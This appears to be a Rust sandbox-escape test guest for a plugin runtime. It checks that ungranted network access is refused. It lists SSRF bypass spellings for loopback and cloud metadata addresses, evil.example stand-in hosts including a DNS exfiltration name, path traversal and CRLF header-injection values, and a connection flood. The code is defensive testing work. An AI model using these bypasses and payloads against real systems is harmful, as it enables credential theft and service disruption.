//! Tries every way out that it is not granted. Expected: each attempt is an error value, named and
//! counted, and what is granted still works.
//!
//! Comes in: the address of a server that is granted, and one attack by name. Goes out: a log line for
//! each attempt, with what became of it; the first one runs at the first event.

use std::io::{Read, Write};
use std::net::{TcpListener, TcpStream, ToSocketAddrs, UdpSocket};

use wickd_sdk::http::{Error, Request};
use wickd_sdk::prelude::*;
use wickd_sdk::websocket::{Connection, Failure, Header};
use wickd_sdk::{Happening, Runtime, Utility};

/// What the test sets.
#[derive(Params)]
pub struct Config {
    /// Which attack.
    #[param(default = "none", max = 32)]
    attack: String,
    /// Host and port of the granted server.
    #[param(default = "127.0.0.1:1", max = 64)]
    server: String,
    /// Host and port of a server that is not granted.
    #[param(default = "127.0.0.1:2", max = 64)]
    other: String,
}

/// The guest.
pub struct EvilUtility {
    config: Config,
    done: bool,
}

impl Utility for EvilUtility {
    type Params = Config;

    fn new(config: Config, _: Vec<Instrument>) -> Result<Self, Vec<Issue>> {
        Ok(Self { config, done: false })
    }

    fn on_event(&mut self, ctx: &Runtime, _: &Happening) -> Result<(), String> {
        if std::mem::replace(&mut self.done, true) {
            return Ok(());
        }
        let server = self.config.server.clone();
        match self.config.attack.as_str() {
            "urls" => self.urls(ctx),
            "websockets" => self.websockets(ctx),
            "sockets" => self.sockets(ctx),
            "headers" => self.headers(ctx),
            "answers" => self.answers(ctx),
            "turncoat" => self.turncoat(ctx),
            "flood" => flood(ctx, &server),
            "spin" => loop {
                std::hint::black_box(ctx);
            },
            "hang" => std::thread::sleep(std::time::Duration::from_secs(3600)),
            "panic" => panic!("as it meant to"),
            "outside" => say(ctx, "outside", get("http://192.0.2.1:9/")),
            _ => {}
        }
        say(ctx, "granted", get(&format!("http://{server}/ok")));
        ctx.info("done");
        Ok(())
    }
}

fn get(url: &str) -> Result<String, Error> {
    let answer = Request::get(url).send()?;
    Ok(format!("{} with {} bytes", answer.status, answer.body.len()))
}

fn say<T: std::fmt::Debug, E: std::fmt::Debug>(ctx: &Runtime, what: &str, outcome: Result<T, E>) {
    ctx.info(&match outcome {
        Ok(answer) => format!("PASSED {what}: {answer:?}"),
        Err(error) => format!("refused {what}: {error:?}"),
    });
}

impl EvilUtility {
    /// Each of these is another place than the granted one, or a spelling that hides where it leads.
    fn places(&self) -> Vec<String> {
        let Config { server, other, .. } = &self.config;
        let port = server.rsplit(':').next().unwrap_or_default();
        let mut places: Vec<String> = [
            "127.1",
            "2130706433",
            "0x7f000001",
            "0177.0.0.1",
            "0x7f.1",
            "127.0.0.2",
            "0.0.0.0",
            "localhost",
            "localhost.",
            "sub.localhost",
            "[::1]",
            "[::]",
            "[::ffff:127.0.0.1]",
            "[::ffff:7f00:2]",
            "[64:ff9b::7f00:1]",
            "[2002:7f00:1::]",
            "169.254.169.254",
            "2852039166",
            "0xa9fea9fe",
            "[::ffff:169.254.169.254]",
            "[fd00:ec2::254]",
            "100.100.100.200",
            "metadata.google.internal",
            "10.0.0.1",
            "192.168.1.1",
            "127.0.0.1.evil.example",
            "xn--127-0-0-1.example",
        ]
        .iter()
        // The first few mean the granted address, on a port that is not.
        .map(|host| format!("{host}:{}", if host.starts_with("127.0.0.2") { port } else { "81" }))
        .collect();
        places.push(other.clone());
        places.push(format!("127.0.0.1@{other}"));
        places.push(format!("{server}@evil.example"));
        places.push(format!("user:secret@{server}"));
        places.push("127.0.0.1%2eevil.example".into());
        places.push("127。0。0。1:81".into());
        places.push("１２７.0.0.1:81".into());
        places.push("аpi.example:443".into());
        places
    }

    fn urls(&self, ctx: &Runtime) {
        for place in self.places() {
            say(ctx, &place, get(&format!("http://{place}/ok")));
        }
        let server = &self.config.server;
        // Another scheme, other methods and paths than those granted, and paths that pretend.
        say(ctx, "https", get(&format!("https://{server}/ok")));
        for path in [
            "/secret",
            "/ok/../secret",
            "/ok/%2e%2e/secret",
            "/ok%2f..%2fsecret",
            "//evil.example/ok",
            "/okay",
        ] {
            say(ctx, path, get(&format!("http://{server}{path}")));
        }
        for method in ["DELETE", "CONNECT", "TRACE", "get"] {
            let request =
                Request { method: method.into(), ..Request::get(format!("http://{server}/ok")) };
            say(ctx, method, request.send());
        }
    }

    fn websockets(&self, ctx: &Runtime) {
        for place in self.places() {
            say(ctx, &format!("ws {place}"), open(&format!("ws://{place}/ok"), Vec::new()));
        }
        let url = format!("ws://{}/ok", self.config.server);
        for (name, value) in
            [("x-a", "1\r\nx-b: 2"), ("host", "evil.example"), ("x a", "1"), ("x-a\r\nx-b", "2")]
        {
            let header = Header { name: name.into(), value: value.into() };
            say(ctx, &format!("ws header {name:?}"), open(&url, vec![header]));
        }
    }

    fn sockets(&self, ctx: &Runtime) {
        let Config { server, other, .. } = &self.config;
        for place in [
            other.as_str(),
            "169.254.169.254:80",
            "[::1]:81",
            "[::ffff:127.0.0.1]:81",
            "192.0.2.1:443",
            "10.0.0.1:22",
        ] {
            say(ctx, &format!("tcp {place}"), TcpStream::connect(place));
        }
        for name in
            ["secret-data.evil.example:443", "localhost:81", "metadata.google.internal:80", "a@b:1"]
        {
            say(ctx, &format!("dns {name}"), name.to_socket_addrs().map(Iterator::count));
        }
        say(ctx, "listen", TcpListener::bind("127.0.0.1:0"));
        say(ctx, "listen anywhere", TcpListener::bind("0.0.0.0:0"));
        say(ctx, "udp", UdpSocket::bind("0.0.0.0:0"));
        say(ctx, "udp on loopback", UdpSocket::bind("127.0.0.1:5353"));
        // What is granted as raw TCP works.
        let spoken = TcpStream::connect(server).and_then(|mut stream| {
            stream.write_all(b"GET /ok HTTP/1.1\r\nhost: x\r\nconnection: close\r\n\r\n")?;
            let mut answer = String::new();
            stream.read_to_string(&mut answer)?;
            Ok(answer.lines().next().unwrap_or_default().to_owned())
        });
        say(ctx, "granted tcp", spoken);
    }

    fn headers(&self, ctx: &Runtime) {
        let url = format!("http://{}/ok", self.config.server);
        for (name, value) in [
            ("x-a", "1\r\nx-b: 2"),
            ("x-a", "1\nx-b: 2"),
            ("x-a\r\nx-b", "2"),
            ("x a", "1"),
            ("host", "evil.example"),
            ("connection", "upgrade"),
            ("transfer-encoding", "chunked"),
            ("proxy-authorization", "x"),
            ("cookie", "a=b"),
            ("expect", "100-continue"),
            ("te", "trailers"),
            ("x-a", "\u{e9}"),
        ] {
            say(ctx, &format!("header {name:?}"), Request::get(&url).header(name, value).send());
        }
        let many =
            (0..40).fold(Request::get(&url), |request, n| request.header(format!("x-{n}"), "1"));
        say(ctx, "forty headers", many.send());
        let large = Request::post_json(&url, vec![b' '; 2 << 20]);
        say(ctx, "two megabytes", large.send());
    }

    /// A name that is granted, and means something else each time.
    fn turncoat(&self, ctx: &Runtime) {
        let name = &self.config.other;
        for _ in 0..4 {
            say(ctx, "http", get(&format!("http://{name}/ok")));
            say(ctx, "websocket", open(&format!("ws://{name}/ok"), Vec::new()));
            say(ctx, "tcp", TcpStream::connect(name.as_str()));
        }
    }

    fn answers(&self, ctx: &Runtime) {
        for path in ["endless", "bomb", "slow", "headers", "redirect", "short"] {
            let outcome = get(&format!("http://{}/ok/{path}", self.config.server));
            say(ctx, &format!("answer {path}"), outcome);
        }
    }
}

fn open(url: &str, headers: Vec<Header>) -> Result<(), Failure> {
    Connection::connect(url, &headers).map(drop)
}

/// A thousand connections, each kept as long as it can be.
fn flood(ctx: &Runtime, server: &str) {
    let mut kept = Vec::new();
    let refused =
        (0..1000).filter(|_| match Connection::connect(&format!("ws://{server}/ok"), &[]) {
            Ok(connection) => {
                kept.push(connection);
                false
            }
            Err(_) => true,
        });
    let refused = refused.count();
    ctx.info(&format!("websockets: {} open, {refused} refused", kept.len()));
    drop(kept);
    let mut streams = Vec::new();
    // Beyond its share of handles the host ends it.
    for _ in 0..1000 {
        match TcpStream::connect(server) {
            Ok(stream) => streams.push(stream),
            Err(_) => break,
        }
    }
    ctx.info(&format!("tcp: {} open", streams.len()));
}

wickd_sdk::export_utility!(EvilUtility);
